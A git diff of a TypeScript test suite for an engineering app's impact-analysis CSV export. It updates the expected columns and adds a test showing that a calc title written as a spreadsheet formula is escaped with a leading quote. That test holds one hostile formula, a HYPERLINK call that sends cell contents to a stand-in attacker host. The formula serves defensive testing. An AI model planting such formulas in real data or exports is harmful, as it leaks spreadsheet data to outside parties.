@@ -1,5 +1,5 @@
 import { Op } from 'sequelize';
-import { MailOutbox } from '../../server/db/models';
+import { Calc, MailOutbox } from '../../server/db/models';
 import { startTestApp, TEST_PASSWORD } from '../support/api-harness';
 import {
   advanceTo, auditOf, createCalc, expectStatus, person, testStandard, withParameter, workflowStandardId, type Team,
@@ -69,11 +69,26 @@ describe('impact analysis', () => {
     const [header, ...rest] = res.text.split('\r\n');
     const rows = rest.slice(0, rest.indexOf(''));
     const [summary, caution] = rest.slice(rest.indexOf('') + 1);
-    expect(header).toBe('"project","calc","title","revision","verdict before","verdict after","clauses that change"');
+    expect(header).toBe('"project","calc","title","revision","approved at (UTC, ISO 8601)","verdict before","verdict after","clauses that change (count)","clauses that change"');
     expect(summary).toBe(`"1 approved revisions re-evaluated under ${s.standard.code} v2; 1 change verdict"`);
     expect(caution).toMatch(/never replace, the judgement of a qualified engineer/);
     expect(rows).toHaveLength(1);
-    expect(rows[0]).toMatch(new RegExp(`^"${s.approved.project.code}","${s.approved.calc.number}","Test head shaft","A","compliant","not-compliant",".*4\\.1 .*pass→fail`));
+    expect(rows[0]).toMatch(new RegExp(`^"${s.approved.project.code}","${s.approved.calc.number}","Test head shaft","A","\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z","compliant","not-compliant",\\d+,".*4\\.1 .*pass→fail`));
+  });
+
+  it('when a calc title is a spreadsheet formula, then the CSV cell starts with a single quote and stays text', async () => {
+    // Arrange: titles are people's words; a hostile one must not run when compliance opens the file.
+    const s = await stricterDraftWithCalcs();
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open me")';
+    await Calc.update({ title: hostile }, { where: { id: s.approved.calcId } });
+
+    // Act
+    const res = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact.csv`);
+
+    // Assert
+    const row = res.text.split('\r\n')[1];
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open me"")",`);
+    expect(row).not.toMatch(/,"?=/);
   });
 
   it('when a draft changes nothing that matters, then no calc is listed and the CSV has its header only', async () => {
@@ -86,8 +101,8 @@ describe('impact analysis', () => {
 
     // Assert
     expect([report.body.evaluated, report.body.changed, report.body.rows]).toEqual([1, 0, []]);
-    // Header, a blank separator, then the summary and the caution: no data rows.
-    expect(csv.text.split('\r\n')).toHaveLength(4);
+    // Header, a blank separator, then the summary and the caution (each line ends in CRLF): no data rows.
+    expect(csv.text.split('\r\n')).toHaveLength(5);
   });
 
   it.each(['author', 'checker', 'approver', 'admin'] as const)('when someone with the %s role asks for the impact, then it is refused with 403', async (role) => {
